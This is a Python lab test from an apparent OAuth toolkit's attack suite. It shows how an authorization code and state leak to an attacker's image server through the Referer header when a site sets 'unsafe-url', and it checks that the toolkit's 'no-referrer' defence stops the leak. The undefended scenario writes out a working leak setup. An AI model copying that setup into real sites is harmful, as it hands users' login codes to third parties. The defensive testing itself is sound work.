"""A picture on the fintech's page tells Mallory the code and the state, in the header `Referer`.

The bank's answer comes to the fintech in a URL. The fintech shows its welcome right there, and the page counts its
visitors by a picture from Mallory's server. With each picture a browser sends the URL of the page that shows it. New
browsers leave out all but the origin, unless a policy says otherwise; this site gives such a policy to each page that
has none, because its partners pay for it. So Mallory reads code and state in his log. Chromium is asked here.

The fintech stops this. What the toolkit answers at the callback has the policy `no-referrer`, whatever page the
application shows there.
"""

from __future__ import annotations

from typing import Any

from starlette.applications import Starlette
from starlette.datastructures import MutableHeaders
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

from examples.attack_lab.answers import NothingCame
from examples.attack_lab.attack import Attack
from examples.attack_lab.chromium import Tab
from examples.attack_lab.hostnames import MALLORYS, PENNY
from examples.attack_lab.lab import Lab
from examples.attack_lab.mallory import MallorysSite
from examples.attack_lab.naive.web_site import NaiveWebSite, home_page
from examples.attack_lab.penny import sign_in
from examples.attack_lab.story import Party, Story
from examples.attack_lab.street import Place
from rpkit import Login

LOOT = "the code and the state of Alice's login"
ALICE, BANK, FINTECH, MALLORY = Party.ALICE, Party.BANK, Party.FINTECH, Party.MALLORY


class PartnersPolicy:
    """A middleware that gives a policy to each page that has none."""

    def __init__(self, app: Any) -> None:
        self._app = app

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        async def with_policy(message: Any) -> None:
            if message["type"] == "http.response.start":
                MutableHeaders(scope=message).setdefault("referrer-policy", "unsafe-url")
            await send(message)

        await self._app(scope, receive, with_policy if scope["type"] == "http" else send)


class CountingSite(NaiveWebSite):
    """It shows its welcome at the callback."""

    picture = ""

    def signed_in(self, user: str) -> Response:
        return HTMLResponse(f"Welcome, {user} {self.picture}", headers={"referrer-policy": "unsafe-url"})


def undefended(lab: Lab, story: Story) -> str:
    mallory, picture = _picture(lab)
    site, origin = lab.naive_web_site(CountingSite, lab.naive_bank())
    site.picture = picture
    browser = lab.chromium()
    _tell(story)
    browser.open(origin)
    browser.submit({})
    return _look(story, browser, mallory)


def defended(lab: Lab, story: Story) -> str:
    mallory, picture = _picture(lab)

    async def welcome(_request: Request, _login: Login) -> Response:
        return HTMLResponse(f"Welcome {picture}")

    place = Place(host=PENNY)
    with lab.fresh("fapi2-security", redirect_uri=f"{place.origin}/callback") as world:
        pages = sign_in(world, welcome)
        home = Route("/", lambda _request: HTMLResponse(home_page(None)))
        lab.serve(PartnersPolicy(Starlette(routes=[home, *pages.routes()])), place, closing=pages.aclose)
        browser = lab.chromium()
        _tell(story)
        browser.open(place.origin)
        browser.submit({})
        browser.submit({"username": "alice", "password": "wonderland"})
        browser.submit({}, "[value=approve]")
        return _look(story, browser, mallory)


def _picture(lab: Lab) -> tuple[MallorysSite, str]:
    mallory, origin = lab.mallorys_site(MALLORYS)
    return mallory, f'<img src="{origin}/counter.gif">'


def _tell(story: Story) -> None:
    story.step(ALICE, FINTECH, "connect my bank", "An honest login.")
    story.step(ALICE, BANK, "sign in, approve", "At her real bank.")
    story.step(ALICE, FINTECH, "GET /callback?code=...&state=...", "The welcome is shown at this URL.")


def _look(story: Story, browser: Tab, mallory: MallorysSite) -> str:
    story.step(ALICE, MALLORY, "GET /counter.gif", "What does her browser say about the page that shows it?")
    assert "Welcome" in browser.text
    referrer = mallory.last("/counter.gif").headers.get("referer", "")
    if "code=" not in referrer or "state=" not in referrer:
        raise NothingCame(f"the header Referer is {referrer or 'missing'}", clause="RFC 9700 4.2.4")
    return LOOT


ATTACK = Attack(
    id="T9.3",
    title="code and state in the header Referer",
    loot=LOOT,
    countermeasures=("C9", "C20"),
    rule="NothingCame",
    clause="RFC 9700 4.2.4",
    defence="rpkit.web.starlette_http.finish",
    without=lambda response, _cookies: response,
    undefended=undefended,
    defended=defended,
    needs_browser=True,
)
